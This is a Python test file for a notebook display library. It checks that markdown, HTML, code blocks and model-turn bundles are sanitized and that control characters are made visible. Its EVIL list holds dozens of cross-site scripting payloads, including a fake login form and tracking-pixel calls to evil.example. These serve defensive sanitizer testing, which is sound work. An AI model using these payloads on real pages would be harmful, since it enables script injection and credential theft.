"""Anything a model writes is shown as text: nothing runs, loads, submits or moves the cursor."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from mm_magics.display import markdown, sanitize
from mm_magics.display.mime_bundle import STYLE, make_bundle
from mm_magics.text import escape_controls
from tests.display.html import ALLOWED, dangers, elements, text, without_styles
from tests.turns import RESPONSE, turn

EVIL = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "![pixel](https://evil.example/pixel.png)",
    '![x](x "a\\" onerror=alert(1)")',
    '![<img src=x onerror=alert(1)>](https://evil.example/"onload=alert(1))',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><rect width=9 height=9 /></a></svg>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=https://evil.example><input name=key type=password><button>Log in</button></form>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div style='background:url(https://evil.example);position:fixed;inset:0'>x</div>",
    "<link rel=stylesheet href=https://evil.example><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<video autoplay src=https://evil.example></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)><html manifest=x>",
    "<a href=javascript:alert(1)>x</a> <a href='java\tscript:alert(1)'>x</a> <a href=' javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1)) [x](JAVASCRIPT:alert(1)) [x](java&#x0A;script:alert(1)) [x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](vbscript:x) [x](file:///etc/passwd)",
    "[x](command:workbench.action.terminal.new) <javascript:alert(1)> <https://example.org/ok>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://example.org "title\' onmouseover=\'alert(1)") [x](https://a"onclick=alert(1))',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp></xmp><img src=x onerror=alert(1)> <plaintext> <listing>",
    "<!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]> <?xml x?><!DOCTYPE x>",
    "<img/src='x'/onerror=alert(1)><svg/onload=alert(1)><<script>alert(1)//<</script>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "`<script>alert(1)</script>` ``</code><script>alert(1)</script>``",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\n'</span><img src=x onerror=alert(1)>'  # </i><script>\n```",
    "~~~\n</code></pre><img src=x onerror=alert(1)>\n~~~",
    '| <script>alert(1)</script> | "onclick=alert(1) |\n| :--- | ---: |\n| <img src=x onerror=alert(1)> | `<svg>` |',
    "- [x] <input type=image src=https://evil.example onfocus=alert(1) autofocus>\n- [ ] x",
    "$\\href{javascript:alert(1)}{x}$ $</span><script>alert(1)</script>$ $$<img src=x onerror=alert(1)>$$",
    "$$\n\\unicode{x3c}<svg onload=alert(1)>\n$$ (a)",
    "<div class='jp-Dialog' id=evil data-commandlinker-command=x>x</div>",
    "<template><script>alert(1)</script></template><slot name=x></slot><portal src=x>",
    "</div></div></details></body></html><script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>\n\n> <script>x</script>\n\n1. <svg onload=x>",
    '<a href="https://example.org" ping=https://evil.example target=_top download>x</a>',
    "<video><source onerror=alert(1)></video><marquee onstart=alert(1)><isindex type=image src=1 onerror=alert(1)>",
]


@pytest.mark.parametrize("evil", EVIL)
def test_hostile_markdown_is_rendered_as_safe_html(evil: str) -> None:
    assert dangers(markdown.render_html(evil)) == []
    assert dangers(markdown.render_html(f"before\n\n{evil}\n\nafter `x` *y*\n")) == []


@pytest.mark.parametrize("evil", EVIL)
def test_hostile_html_is_sanitized(evil: str) -> None:
    cleaned = sanitize.sanitize_html(evil)
    found = [each for each in dangers(cleaned) if not each.startswith(("class ", "<input"))]
    assert found == []
    assert sanitize.sanitize_html(cleaned) == cleaned
    assert not any(tag == "input" and "src" in attributes for tag, attributes in elements(cleaned))


HANDLERS = (
    "onclick onmouseover onfocus onload onerror ontoggle onbegin onanimationstart style id name srcset src data-x"
)


@pytest.mark.parametrize("tag", sorted(ALLOWED))
def test_active_attributes_are_removed_from_every_element(tag: str) -> None:
    attributes = " ".join(f"{name}='alert(1)'" for name in HANDLERS.split())
    cleaned = sanitize.sanitize_html(f"<table><tr><{tag} {attributes} autofocus href='#'>x</{tag}></tr></table>")
    assert not any(name in HANDLERS.split() for _, found in elements(cleaned) for name in found)
    assert "alert" not in cleaned


@pytest.mark.parametrize("language", ["", "html", "python", '"><script>', "no-such-language", "js\nx"])
@pytest.mark.parametrize("evil", EVIL[::4])
def test_hostile_code_is_shown_as_text(evil: str, language: str) -> None:
    html = markdown.render_code(evil, language)
    assert dangers(html) == []
    assert text(html).rstrip("\n") == escape_controls(evil).rstrip("\n")


@pytest.mark.parametrize("evil", EVIL)
def test_hostile_text_in_any_field_makes_a_safe_bundle(evil: str) -> None:
    content = [
        {"type": "thinking", "thinking": evil, "signature": evil},
        {"type": "text", "text": evil},
        {"type": "tool_use", "id": evil, "name": evil, "input": {evil: evil}},
        {"type": evil or "x", evil: evil},
        {"type": "redacted_thinking", "data": evil},
    ]
    made = turn(evil, content, model=evil, error=evil, status="failed", system=evil, thread=evil, cell_id=evil)
    made.messages.append({"role": "user", "content": [{"type": "tool_result", "tool_use_id": evil, "content": evil}]})
    made.responses.append({**RESPONSE, "stop_reason": evil, "id": evil, "model": evil})
    forms: list[Any] = ["markdown", "code", "text", "json"]
    for form in forms:
        for quiet in (False, True):
            html = make_bundle(made, answer_format=form, quiet=quiet, notes=[evil])["text/html"]
            assert html.count(STYLE) == 1
            assert dangers(without_styles(html)) == []


def test_the_checker_detects_dangerous_html() -> None:
    for evil in EVIL[:22]:
        assert dangers(f"<p>{evil}</p>") or "](" in evil, evil


@pytest.mark.fuzz
@given(st.text(st.sampled_from("<>\"'&/!-=`[]()*_$\\ \nabs:#|~"), max_size=40))
@example("<a\n b='")
def test_any_combination_of_marks_is_rendered_as_safe_html(marks: str) -> None:
    assert dangers(markdown.render_html(marks)) == []


@pytest.mark.parametrize("evil", ["![a](https://e.org/p.png)", "[a](https://e.org)", "<https://e.org>"])
def test_links_stay_links_and_images_become_links(evil: str) -> None:
    links = [attributes for tag, attributes in elements(markdown.render_html(evil)) if tag == "a"]
    assert [link["href"].partition("/p")[0] for link in links] == ["https://e.org"]


# Control characters ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "seen"),
    [
        ("\x1b[31mred\x1b[0m", "␛[31mred␛[0m"),
        ("a\x07\x08\x7f", "a␇␈␡"),
        ("\x9b31m", "[U+009B]31m"),
        ("\u202eevil\u202c", "[U+202E]evil[U+202C]"),
        ("\u2066\u2067\u2068\u2069", "[U+2066][U+2067][U+2068][U+2069]"),
        ("a\r\nb\tc", "a\nb\tc"),
        ("100%\r50%", "100%␍50%"),
        ("half \ud83d.", "half [U+D83D]."),
        ("Grüße 🦪 牡蠣 👩‍👩‍👧 é", "Grüße 🦪 牡蠣 👩‍👩‍👧 é"),
    ],
)
def test_control_characters_become_visible(raw: str, seen: str) -> None:
    assert escape_controls(raw) == seen


@pytest.mark.fuzz
@given(st.text(st.characters(exclude_categories=()), max_size=30))
def test_escaped_text_has_no_control_characters_and_can_be_encoded(raw: str) -> None:
    seen = escape_controls(raw)
    assert all(each in "\t\n" or not (ord(each) < 32 or 127 <= ord(each) < 160) for each in seen)
    seen.encode()
    assert escape_controls(seen) == seen


@pytest.mark.parametrize("raw", ["\x1b]0;title\x07", "\x1b[2J", "\u202eabc", "a\x00b", "\x9b1m", "half \ud83d."])
def test_control_characters_are_visible_in_every_mime_type(raw: str) -> None:
    made = make_bundle(turn(raw, raw, model=raw, error=raw), notes=[raw])
    for kind in ("text/html", "text/plain"):
        assert raw not in made[kind]
        assert escape_controls(raw) in text(made[kind])
        assert escape_controls(made[kind]) == made[kind]
